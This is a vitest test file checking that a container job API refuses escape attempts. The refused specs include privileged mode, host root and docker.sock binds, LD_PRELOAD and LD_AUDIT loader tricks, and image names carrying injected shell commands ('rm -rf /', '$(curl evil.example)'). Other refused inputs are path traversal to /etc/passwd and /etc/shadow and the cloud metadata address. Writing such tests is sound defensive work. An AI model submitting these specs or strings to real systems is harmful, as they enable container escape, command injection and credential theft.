import { mkdirSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_ARGV_ENV_BYTES } from '../../src/domain/schemas/job.js';
import { startTestApi, type TestApi } from '../support/api.js';

/**
 * Job specs that try to get out of their container: privileges, host paths, host namespaces,
 * devices, capabilities, other runtimes, GPUs they were not given, loader tricks, and image
 * references that are shell commands or local paths. Each is a 400 that names the field, and
 * nothing is submitted. (What the agent gives a container whatever the spec says is tested in
 * test/agent/docker-executor.test.ts: no privileges, all capabilities dropped, only its GPUs.)
 */

let t: TestApi;
beforeAll(async () => {
  t = await startTestApi('job-escape');
});
/** Escape attempts answered 400 naming their field, by kind: the figures for the README. */
const refusedByField = new Map<string, number>();
afterAll(async () => {
  await t?.close();
  const figures = {
    escape_specs_refused: [...refusedByField.values()].reduce((a, b) => a + b, 0),
    by_field: Object.fromEntries(refusedByField),
  };
  mkdirSync('test/artifacts', { recursive: true });
  writeFileSync('test/artifacts/job-escape.json', `${JSON.stringify(figures, null, 2)}\n`);
  console.log(`job escapes: ${figures.escape_specs_refused} escaping specs refused with a 400 naming the field`);
});

const BASE = { docker_image: 'busybox', command: ['sh', '-c', 'id'] };

async function refused(body: Record<string, unknown>, field: string, path = '/jobs/'): Promise<string> {
  const r = await t.req('POST', path, { token: t.tokens.alice, body });
  expect(r.status, `${JSON.stringify(body).slice(0, 200)}: ${r.text.slice(0, 300)}`).toBe(400);
  expect(r.body).toMatchObject({ error: 'validation_failed', request_id: expect.any(String) });
  expect(r.body.fields.map((f: { field: string }) => f.field)).toEqual([field]);
  const kind = field.replace(/^jobs\.\d+\./, '').split('.')[0] ?? field;
  refusedByField.set(kind, (refusedByField.get(kind) ?? 0) + 1);
  return r.body.fields[0].message;
}

describe('fields that would widen what the container may do are unknown fields', () => {
  it.each([
    ['privileged', true],
    ['volumes', ['/:/host']],
    ['mounts', [{ type: 'bind', source: '/', target: '/host' }]],
    ['binds', ['/var/run/docker.sock:/var/run/docker.sock']],
    ['host_path', '/etc'],
    ['network_mode', 'host'],
    ['network', 'host'],
    ['pid', 'host'],
    ['pid_mode', 'host'],
    ['ipc', 'host'],
    ['uts', 'host'],
    ['userns_mode', 'host'],
    ['devices', ['/dev/nvidia0', '/dev/mem']],
    ['device_requests', [{ Driver: 'nvidia', Count: -1 }]],
    ['gpus', 'all'],
    ['cap_add', ['SYS_ADMIN']],
    ['capabilities', ['ALL']],
    ['security_opt', ['apparmor=unconfined', 'seccomp=unconfined']],
    ['user', 'root'],
    ['runtime', 'nvidia'],
    ['HostConfig', { Privileged: true, Binds: ['/:/host'] }],
    ['host_config', { privileged: true }],
    ['shm_size', 1e12],
    ['sysctls', { 'kernel.core_pattern': '|/tmp/x' }],
    ['cgroup_parent', '/'],
    ['ulimits', [{ name: 'nofile', soft: 1e9, hard: 1e9 }]],
    ['entrypoint', ['/bin/sh']],
    ['working_dir', '/host'],
  ])('%s', async (field, value) => {
    const message = await refused({ ...BASE, [field]: value }, field);
    expect(message).toBe('unknown field');
  });

  it('in a batch too, naming the job', async () => {
    await refused({ jobs: [BASE, { ...BASE, privileged: true }] }, 'jobs.1.privileged', '/jobs/batch');
  });

  it('and nothing was submitted', async () => {
    const jobs = await t.req('GET', '/jobs/', { token: t.tokens.alice });
    expect(jobs.body.items).toEqual([]);
  });
});

describe('environment variables that are the node’s', () => {
  it.each([
    ['NVIDIA_VISIBLE_DEVICES', 'all'],
    ['NVIDIA_VISIBLE_DEVICES', '0,1,2,3,4,5,6,7'],
    ['CUDA_VISIBLE_DEVICES', '0,1,2,3'],
    ['NVIDIA_DRIVER_CAPABILITIES', 'all'],
    ['NVIDIA_GDS', 'enabled'],
    ['NVIDIA_MOFED', 'enabled'],
    ['NVIDIA_MIG_CONFIG_DEVICES', 'all'],
    ['NVIDIA_IMEX_CHANNELS', 'all'],
    ['LD_PRELOAD', '/proc/self/cwd/evil.so'],
    ['LD_LIBRARY_PATH', '.'],
    ['LD_AUDIT', '/tmp/audit.so'],
    ['IMAGEPOD_OUTPUT_DIR', '/host'],
  ])('%s=%s is refused, naming env.<that name>', async (name, value) => {
    const message = await refused({ ...BASE, env: { SAFE: 'yes', [name]: value } }, `env.${name}`);
    expect(message).not.toBe('Invalid key in record');
  });

  it('others are the job’s own', async () => {
    const r = await t.req('POST', '/jobs/', {
      token: t.tokens.alice,
      body: { ...BASE, env: { HF_HOME: '/cache', PYTHONPATH: '/app', nvidia_visible_devices: 'lowercase is not the runtime’s' } },
    });
    expect(r.status).toBe(201);
    expect(r.body.env).toEqual({ HF_HOME: '/cache', PYTHONPATH: '/app', nvidia_visible_devices: 'lowercase is not the runtime’s' });
  });
});

describe('what execve would refuse, failing the container at start (and blaming the node)', () => {
  it('a NUL in a value, the command or the arguments', async () => {
    await refused({ ...BASE, env: { A: 'x\u0000y' } }, 'env.A');
    await refused({ ...BASE, command: ['sh\u0000', '-c'] }, 'command.0');
    await refused({ ...BASE, args: ['ok', 'a\u0000b'] }, 'args.1');
  });

  it('command, args and env adding up to more than execve takes', async () => {
    const env = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`V${i}`, 'x'.repeat(30_000)]));
    expect(40 * 30_000).toBeGreaterThan(MAX_ARGV_ENV_BYTES);
    const r = await t.req('POST', '/jobs/', { token: t.tokens.alice, body: { ...BASE, env } });
    expect(r.status).toBe(400);
    expect(r.body.fields).toEqual([{ field: 'env', message: expect.stringContaining('may not exceed') }]);
  });
});

describe('image references', () => {
  it.each([
    'busybox; rm -rf /',
    'busybox && reboot',
    'busybox | sh',
    '$(curl evil.example)',
    '`id`',
    'busybox\n--privileged',
    'busybox --privileged',
    ' busybox',
    '-H tcp://evil.example:2375',
    '/var/lib/docker/image',
    './image.tar',
    '../../etc/passwd',
    'file:///etc/passwd',
    'docker-archive:/tmp/x.tar',
    'oci:/tmp/layout',
    'BUSYBOX',
    'busybox:latest;id',
    'busybox@sha256:../../x',
    'localhost:5000/x',
    '127.0.0.1:2375/v1.41/containers/create',
    '127.0.0.1/x',
    '169.254.169.254/latest/meta-data',
    '0.0.0.0:6379/x',
  ])('%j is refused, naming docker_image', async (image) => {
    await refused({ ...BASE, docker_image: image }, 'docker_image');
  });

  it.each(['latest; id', '$(id)', '../x', 'a'.repeat(129)])('tag %j is refused, naming docker_tag', async (tag) => {
    await refused({ ...BASE, docker_tag: tag }, 'docker_tag');
  });

  it('a registry credential is a name, not a path', async () => {
    await refused({ ...BASE, registry_secret: '../../etc/shadow' }, 'registry_secret');
  });

  it('registries elsewhere on the network are the job’s business', async () => {
    for (const image of ['ghcr.io/org/app:v1', '10.0.0.5:5000/team/model', `registry.internal:443/x/y@sha256:${'a'.repeat(64)}`]) {
      const r = await t.req('POST', '/jobs/', { token: t.tokens.alice, body: { ...BASE, docker_image: image } });
      expect(r.status, `${image}: ${r.text}`).toBe(201);
    }
  });
});
